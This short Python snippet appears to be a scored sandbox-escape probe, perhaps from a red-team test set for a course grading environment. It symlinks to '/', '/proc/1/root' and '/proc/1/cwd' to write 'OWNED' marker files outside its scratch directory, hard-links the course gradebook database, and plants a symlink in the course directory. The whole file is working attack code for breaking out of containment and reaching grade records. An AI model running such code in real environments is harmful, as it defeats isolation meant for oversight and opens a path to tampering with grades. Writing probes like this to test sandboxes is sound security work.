# why: links and hard links that lead out of the scratch directory, and writes through them
# earns: 7
import os
for target in ["{course}", "/", "/proc/1/root", "/proc/self/root{course}", "/proc/1/cwd"]:
    try:
        os.symlink(target, "/tmp/way-out")
        open("/tmp/way-out/OWNED-link", "w").write("x")
    except OSError:
        pass
    try:
        os.unlink("/tmp/way-out")
    except OSError:
        pass
try:
    os.link("{course}/gradebook.db", "/tmp/hard")
    os.symlink("/tmp", "{course}/OWNED-symlink")
except OSError:
    pass
decoded = 0
